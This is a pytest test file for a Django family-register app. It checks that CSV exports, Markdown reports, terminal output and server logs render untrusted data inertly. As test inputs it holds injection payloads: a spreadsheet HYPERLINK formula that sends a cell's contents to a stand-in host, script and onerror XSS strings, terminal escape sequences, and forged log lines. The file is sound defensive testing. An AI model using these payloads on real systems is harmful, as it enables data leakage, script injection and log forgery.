"""What the data holds is shown, never obeyed: spreadsheets, Markdown, terminals, server logs."""

from __future__ import annotations

import argparse
import csv
import io
import logging

import pytest
from django.test import Client
from django.urls import reverse
from rich.table import Table

from reunify.actions.export import export_rows
from reunify.models import Identity, PersonRecord
from reunify.reports.document import Report, Section, render_markdown
from reunify.reports.document import Table as ReportTable
from reunify.rules.spreadsheet import neutralise_cell
from reunify.web.log_lines import LineFormatter
from web_world import world_fixture  # noqa: F401 - the world fixture

FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"open")', "+1+1", "@SUM(1)", "-2+3",
            "\t=1", "\r=1"]
ESCAPES = "\x1b]8;;http://example.invalid\x1b\\click\x1b]8;;\x1b\\\x1b[31mred\x07"


def rename(world, tag: str, family_name: str) -> None:
    """Give family ``tag``'s child a surname from the data (as an agency file could)."""
    record_id = Identity.objects.filter(person_id=world.children[tag]).values_list(
        "record_id", flat=True).first()
    PersonRecord.objects.filter(record_id=record_id).update(given_name="",
                                                            family_name=family_name)


@pytest.mark.parametrize("formula", FORMULAS)
def test_formula_cells_are_neutralised(formula):
    """Every cell a spreadsheet would read as a formula starts with a quote; numbers stay."""
    assert neutralise_cell(formula) == "'" + formula
    assert neutralise_cell(-3) == "-3"
    assert neutralise_cell("Alvarado") == "Alvarado"


@pytest.mark.django_db
def test_the_register_download_neutralises_formulas(world):
    """/register.csv, for people opening it in a spreadsheet, carries no live formula."""
    rename(world, "a", FORMULAS[0])
    client = Client()
    client.force_login(world.users["data_steward"])
    response = client.get(reverse("register_csv"), {"as_of": "2018-06-01"})
    text = b"".join(response.streaming_content).decode()
    names = [row["name"] for row in csv.DictReader(io.StringIO(text))]
    assert "'" + FORMULAS[0] in names
    assert FORMULAS[0] not in names


@pytest.mark.django_db
def test_machine_exports_stay_exact(tmp_path):
    """``reunify export`` files are read by programs: a value is written exactly as it is."""
    out = tmp_path / "x.csv"
    export_rows("register", [{"name": FORMULAS[1]}], ("name",), out, actor="tester")
    assert out.read_text().splitlines()[1] == FORMULAS[1]


def test_markdown_reports_escape_html_from_the_data():
    """Raw HTML in a value is shown as text in a Markdown report, never passed on as HTML."""
    hostile = '<script>alert(1)</script><img src=x onerror="alert(2)">'
    report = Report(title=hostile, subtitle="s", sections=[Section(
        title="t", text=[hostile], tables=[ReportTable("t", ["name"], [[hostile]])])])
    text = render_markdown(report, None)
    assert "<script" not in text
    assert "<img" not in text
    assert "&lt;script&gt;" in text


def test_the_terminal_shows_control_characters_and_markup_as_nothing_and_text():
    """Escape sequences in a value do not reach the terminal; markup in it is shown as typed;
    reunify's own table styling still does."""
    from reunify.cli.terminal import Console

    out = io.StringIO()
    console = Console(file=out, force_terminal=True, color_system="truecolor", width=200)
    table = Table(title="family")
    table.add_column("name")
    table.add_row(ESCAPES + " [link=http://example.invalid]x[/link] [red]y[/]")
    console.print(table)
    shown = out.getvalue()
    assert "\x1b]8" not in shown
    assert "\x07" not in shown
    assert "\x1b[31m" not in shown
    assert "[link=http://example.invalid]x[/link]" in shown
    assert "\x1b[" in shown  # the title's own style


@pytest.mark.django_db
def test_families_show_prints_names_inertly(world, capsys):
    """``reunify families show`` prints a name holding escape codes without them."""
    from reunify.cli.families import run_show

    rename(world, "a", ESCAPES)
    assert run_show(argparse.Namespace(person=f"P{world.children['a']:07d}")) == 0
    shown = capsys.readouterr().out
    assert "\x1b]8" not in shown
    assert "\x07" not in shown
    assert "click" in shown  # the text of the name is shown, its escapes are not


def test_log_lines_cannot_be_forged():
    """A request path with a line break or NUL is logged on one line, escaped; the formatter is
    the one the settings give every handler."""
    from django.conf import settings

    assert settings.LOGGING["formatters"]["line"]["()"].endswith("LineFormatter")
    record = logging.LogRecord("django.request", logging.WARNING, __file__, 1,
                               "Not Found: %s", ("/x\n2026-01-01 admin signed in\x00",), None)
    line = LineFormatter("%(levelname)s %(message)s").format(record)
    assert "\n" not in line
    assert "\x00" not in line
    assert line == "WARNING Not Found: /x\\n2026-01-01 admin signed in\\x00"


def test_gunicorn_access_log_fields_are_escaped():
    """gunicorn's access-log fields (the path above all) carry no raw line break or NUL."""
    import datetime as dt

    from gunicorn.config import Config

    from reunify.web.log_lines import GunicornLogger

    class Response:
        status, headers, sent = "404 Not Found", [], 0

    environ = {"REQUEST_METHOD": "GET", "RAW_URI": "/x%0aforged%00", "SERVER_PROTOCOL": "HTTP/1.1",
               "PATH_INFO": "/x\nforged\x00", "QUERY_STRING": "a=\r\n"}
    atoms = GunicornLogger(Config()).atoms(Response(), {}, environ, dt.timedelta(0))
    assert atoms["U"] == "/x\\nforged\\x00"
    assert atoms["q"] == "a=\\r\\n"
